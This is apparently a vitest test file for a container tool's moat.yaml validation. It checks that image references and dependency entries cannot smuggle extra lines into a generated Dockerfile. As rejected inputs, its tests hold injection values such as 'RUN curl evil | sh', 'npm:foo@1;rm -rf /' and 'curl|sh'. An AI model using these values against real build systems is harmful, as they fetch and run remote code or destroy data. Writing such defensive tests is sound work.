/**
 * base_image and dependencies are written into the generated Dockerfile: each must match its grammar,
 * checked when moat.yaml is read (FILE:LINE:COL) and again where the Dockerfile is rendered.
 */
import { describe, expect, it } from 'vitest';
import { loadWorkspaceConfig } from '../../../src/config/load.js';
import { mergeRunOptions } from '../../../src/config/merge.js';
import { dependencyProblem, parseSpec } from '../../../src/deps/parse.js';
import { renderDockerfile } from '../../../src/image/dockerfile.js';
import { imageReferenceProblem } from '../../../src/image/reference.js';
import { errorOf, problemLines, workspace } from './helpers.js';

describe('base_image: the image-reference grammar', () => {
  it('accepts what docker pull accepts', () => {
    for (const ref of [
      'debian',
      'debian:bookworm-slim',
      'library/debian:12',
      'ubuntu:24.04',
      'ghcr.io/acme/tools:v1.2.3',
      'localhost:5000/team/img',
      'registry.example.com:5000/a/b/c:tag_1',
      'my-img__x.y:latest',
      `debian@sha256:${'a'.repeat(64)}`,
      `debian:12@sha256:${'0'.repeat(64)}`,
      'Registry.Example.COM/x',
    ])
      expect(imageReferenceProblem(ref), ref).toBeUndefined();
  });

  it('refuses line breaks, spaces, upper-case names and other forms', () => {
    for (const ref of [
      'debian:bookworm-slim\nRUN curl evil | sh',
      'debian\n',
      'debian:12 AS x',
      ' debian',
      'Debian',
      'acme/Tools',
      'debian:',
      ':tag',
      'debian@sha256:abc',
      'a//b',
      'debian:-tag',
      '-debian',
      'debian\u202e',
      'debian\t',
      `debian:${'t'.repeat(129)}`,
      '--platform=linux/amd64 debian',
    ])
      expect(imageReferenceProblem(ref), JSON.stringify(ref)).toBeDefined();
  });

  it("a line break in moat.yaml's base_image is an error at moat.yaml:LINE:COL, before anything is built", async () => {
    const dir = await workspace({ 'moat.yaml': 'grants: []\nbase_image: "debian:bookworm-slim\\nRUN touch /pwned"\n' });
    const msg = await errorOf(loadWorkspaceConfig(dir));
    expect(problemLines(msg)).toEqual(['moat.yaml:2:13: base_image: an image reference has no spaces, line breaks or control characters']);
  });

  it('a block scalar cannot smuggle a second line either', async () => {
    const dir = await workspace({ 'moat.yaml': 'base_image: |\n  debian\n  RUN id\n' });
    expect(problemLines(await errorOf(loadWorkspaceConfig(dir)))[0]).toMatch(/^moat\.yaml:1:13: base_image: /);
  });

  it('the flag and the Dockerfile renderer refuse it too', () => {
    expect(() => mergeRunOptions({ env: {}, mounts: [] }, { baseImage: 'debian\nRUN id' })).toThrow(/invalid --base-image/);
    expect(() => renderDockerfile({ baseImage: 'debian:12\nRUN touch /pwned', extra: '' })).toThrow(/Invalid base image/);
    expect(renderDockerfile({ baseImage: 'debian:12', extra: '' })).toContain('\nFROM debian:12\n');
  });
});

describe("dependencies: each entry against its form's grammar", () => {
  it('accepts the registry and dynamic forms', () => {
    for (const d of ['node', 'node@20', 'claude-code', 'sqlite3', 'npm:typescript@5.9', 'npm:@scope/pkg', 'apt:jq=1.6-2.1', 'pip:requests==2.32.3']) {
      expect(dependencyProblem(d), d).toBeUndefined();
    }
  });

  it('refuses whitespace, line breaks and control characters anywhere', () => {
    for (const d of [
      'node@20\nRUN id',
      'node 20',
      ' node',
      'node\t',
      'node\u0000',
      'node@20\r',
      'npm:foo@1;rm -rf /',
      'apt:jq\n',
      'pip:x==1 ',
      'node\u2028x',
      'curl|sh',
      'x:y',
    ]) {
      expect(dependencyProblem(d), JSON.stringify(d)).toBeDefined();
    }
    expect(() => parseSpec('node@20\nRUN id')).toThrow(/space, line break or control character/);
  });

  it('an unknown name is refused at moat.yaml:LINE:COL with "did you mean" and the fix', async () => {
    const dir = await workspace({ 'moat.yaml': 'dependencies:\n  - node@20\n  - ripgrap\n  - zzzzzzzzzz@1\n' });
    expect(problemLines(await errorOf(loadWorkspaceConfig(dir)))).toEqual([
      'moat.yaml:3:5: dependencies[1]: unknown dependency "ripgrap"; did you mean "ripgrep"? moat deps list shows the built-in names ("apt:ripgrap" or "npm:ripgrap" for a Debian or npm package).',
      'moat.yaml:4:5: dependencies[2]: unknown dependency "zzzzzzzzzz@1". moat deps list shows the built-in names ("apt:zzzzzzzzzz" or "npm:zzzzzzzzzz" for a Debian or npm package).',
    ]);
  });

  it('a version outside the allowed list, and two versions of one tool, are refused at moat.yaml:LINE:COL', async () => {
    const dir = await workspace({ 'moat.yaml': 'dependencies: [node@17, git@2]\n' });
    expect(problemLines(await errorOf(loadWorkspaceConfig(dir)))).toEqual([
      'moat.yaml:1:16: dependencies[0]: unsupported version "17" for node in dependency "node@17". Allowed: 18, 20, 22, 24. moat deps info node lists them.',
      'moat.yaml:1:25: dependencies[1]: dependency "git@2": git has no versions to choose from. Write git without a version (or apt:<package>=<version> for an exact Debian version).',
    ]);
    const both = await workspace({ 'moat.yaml': 'dependencies: [node@20, npm:typescript, node@22]\n' });
    expect(problemLines(await errorOf(loadWorkspaceConfig(both)))).toEqual([
      'moat.yaml:1:15: dependencies: conflicting versions of node: 20 (from "node@20") and 22 (from "node@22"). Keep one version of node in the dependencies of moat.yaml.',
    ]);
  });

  it('a bad entry is an error at moat.yaml:LINE:COL', async () => {
    const dir = await workspace({ 'moat.yaml': 'dependencies:\n  - node@20\n  - "git\\nRUN curl evil | sh"\n' });
    expect(problemLines(await errorOf(loadWorkspaceConfig(dir)))).toEqual([
      'moat.yaml:3:5: dependencies[1]: dependency "git\\nRUN curl evil | sh" has a space, line break or control character. Write one tool per entry, e.g. "node@20".',
    ]);
  });
});
